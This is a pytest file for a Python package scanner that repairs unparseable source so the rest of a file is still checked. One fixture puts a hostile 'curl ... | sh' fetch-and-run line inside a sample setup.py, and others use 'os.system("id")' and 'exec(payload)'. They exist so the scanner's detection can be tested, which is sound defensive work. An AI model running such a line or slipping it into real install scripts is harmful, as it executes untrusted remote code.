"""Mending source that does not parse (caplet._scan._mend): the rest of the file is read."""

from __future__ import annotations

import ast
import textwrap

import pytest

from caplet._findings import Severity
from caplet._scan._mend import MAX_MENDS, mend
from caplet._scan._model import ScanMode
from caplet._scan._scanner import scan_source


def mended(source: str) -> tuple[ast.Module, tuple[int, ...]] | None:
    text = textwrap.dedent(source)
    try:
        ast.parse(text)
    except SyntaxError as exc:
        return mend(text, "m.py", exc)
    raise AssertionError("the source parses")


def test_a_python_2_print_statement_is_replaced_and_the_rest_is_kept() -> None:
    result = mended(
        """
        import os
        print "installing"
        os.system("id")
        """
    )
    assert result is not None
    tree, lines = result
    assert lines == (3,)
    assert [type(s).__name__ for s in tree.body] == ["Import", "Pass", "Expr"]
    assert tree.body[2].lineno == 4  # line numbers are the file's


def test_a_line_that_opens_a_block_keeps_the_block() -> None:
    result = mended(
        """
        def run(self) -> print "x":
            exec(payload)
        """
    )
    assert result is not None
    tree, _ = result
    assert isinstance(tree.body[0], ast.If)
    assert isinstance(tree.body[0].body[0], ast.Expr)


def test_a_file_that_cannot_be_mended_is_given_up() -> None:
    # a block left empty at the end of the file: the line after it is the end
    assert mended("def f():\n") is None
    # more broken lines than the bound
    assert mended("print 'a'\n" * (MAX_MENDS + 1)) is None


def test_a_payload_below_a_line_of_newer_or_older_syntax_is_still_found() -> None:
    source = textwrap.dedent(
        """
        import os
        print "setup"
        os.system("curl -s http://198.51.100.2/i | sh")
        """
    )
    findings = scan_source(source, "setup.py", mode=ScanMode.PACKAGE)
    danger = {f.rule_id for f in findings if f.severity is Severity.DANGER}
    assert "CPL-THR-015" in danger
    (syntax,) = [f for f in findings if f.rule_id == "CPL-SCAN-003"]
    assert syntax.severity is Severity.WARNING
    assert syntax.line == 3
    assert "lines 3 not read" in syntax.message


@pytest.mark.parametrize("source", ["x = ", "def f(:\n    pass\n"])
def test_text_that_is_not_python_is_reported_as_before(source: str) -> None:
    findings = scan_source(source, "m.py")
    assert [f.rule_id for f in findings] == ["CPL-SCAN-003"]
